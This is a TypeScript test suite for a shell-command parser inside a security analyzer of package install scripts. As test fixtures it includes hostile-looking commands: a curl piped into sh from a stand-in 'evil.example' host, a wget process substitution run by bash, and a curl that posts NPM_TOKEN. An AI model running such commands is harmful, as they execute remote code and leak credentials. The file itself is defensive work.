import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { allCommands, parseShell } from '../../../src/security/analyzers/install-scripts/shell-parse.js';

/** Each pipeline as its commands' words, for compact assertions. */
function shape(source: string): string[][][] {
  return parseShell(source).pipelines.map((p) => p.commands.map((c) => c.words.map((w) => w.text)));
}

describe('parseShell', () => {
  const cases: { name: string; source: string; expected: string[][][] }[] = [
    { name: 'plain words', source: 'node-gyp rebuild --release', expected: [[['node-gyp', 'rebuild', '--release']]] },
    { name: 'and / or / semicolon split pipelines', source: 'a && b || c; d', expected: [[['a']], [['b']], [['c']], [['d']]] },
    { name: 'pipes join commands', source: 'curl -s x | sh', expected: [[['curl', '-s', 'x'], ['sh']]] },
    { name: 'single quotes keep everything', source: `node -e 'a && b | c'`, expected: [[['node', '-e', 'a && b | c']]] },
    { name: 'double quotes and escapes', source: 'echo "a \\"b\\" c" d\\ e', expected: [[['echo', 'a "b" c', 'd e']]] },
    { name: 'background & separates', source: 'a & b', expected: [[['a']], [['b']]] },
    { name: 'comments are skipped', source: 'a # b | c\nd', expected: [[['a']], [['d']]] },
    { name: 'line continuation', source: 'curl \\\n  -s x', expected: [[['curl', '-s', 'x']]] },
    { name: 'redirections are not words', source: 'curl x > /tmp/y 2>&1', expected: [[['curl', 'x']]] },
    { name: 'assignments are not words', source: 'A=1 B="2 3" node x.js', expected: [[['node', 'x.js']]] },
    { name: 'reserved words skipped', source: 'if true; then echo ok; fi', expected: [[['true']], [['echo', 'ok']]] },
    { name: 'cmd.exe style', source: 'node install.js && exit /b 0', expected: [[['node', 'install.js']], [['exit', '/b', '0']]] },
  ];
  for (const c of cases) {
    it(c.name, () => {
      assert.deepEqual(shape(c.source), c.expected);
    });
  }

  it('parses command substitutions into nested scripts', () => {
    const script = parseShell('sh -c "$(curl -fsSL https://evil.example/i)"');
    const word = script.pipelines[0]?.commands[0]?.words[2];
    assert.equal(word?.text, '$(curl -fsSL https://evil.example/i)');
    assert.deepEqual(word?.substitutions[0]?.pipelines[0]?.commands[0]?.words.map((w) => w.text), ['curl', '-fsSL', 'https://evil.example/i']);
  });

  it('parses backticks and process substitution', () => {
    const names = [...allCommands(parseShell('echo `whoami`; bash <(wget -qO- x)'))].map((c) => c.words[0]?.text);
    assert.deepEqual(names, ['echo', 'whoami', 'bash', 'wget']);
  });

  it('records expanded variables', () => {
    const words = parseShell('curl -d "t=${NPM_TOKEN}" -H $AUTH %USERPROFILE%').pipelines[0]?.commands[0]?.words ?? [];
    assert.deepEqual(
      words.flatMap((w) => w.variables),
      ['NPM_TOKEN', 'AUTH', 'USERPROFILE'],
    );
  });

  it('leaves arithmetic expansion alone', () => {
    assert.deepEqual(shape('echo $((1 + 2)) done'), [[['echo', '$((1 + 2))', 'done']]]);
  });

  it('reads here-documents into the redirect', () => {
    const script = parseShell('sh <<EOF\ncurl x | sh\nEOF\necho after');
    const cmd = script.pipelines[0]?.commands[0];
    assert.equal(cmd?.redirects[0]?.heredoc, 'curl x | sh');
    assert.deepEqual(script.pipelines[1]?.commands[0]?.words.map((w) => w.text), ['echo', 'after']);
  });

  it('numbers lines, with an offset', () => {
    const script = parseShell('a\n\nb | c', { lineOffset: 10 });
    assert.deepEqual(
      script.pipelines.map((p) => p.line),
      [11, 13],
    );
  });

  it('subshell groups', () => {
    const script = parseShell('(cd lib && curl x) | sh');
    assert.equal(script.pipelines[0]?.commands.length, 2);
    assert.ok(script.pipelines[0]?.commands[0]?.group !== undefined);
  });

  it('never throws and stays linear on hostile input', () => {
    const hostile = ['$('.repeat(5000), '"'.repeat(10001), '`'.repeat(3001), "'unterminated", '(((((((((', '${', 'a <<', '))))) ;;; &&& |||'];
    for (const source of hostile) {
      const started = performance.now();
      parseShell(source);
      assert.ok(performance.now() - started < 500, `slow on ${source.slice(0, 10)}`);
    }
  });
});
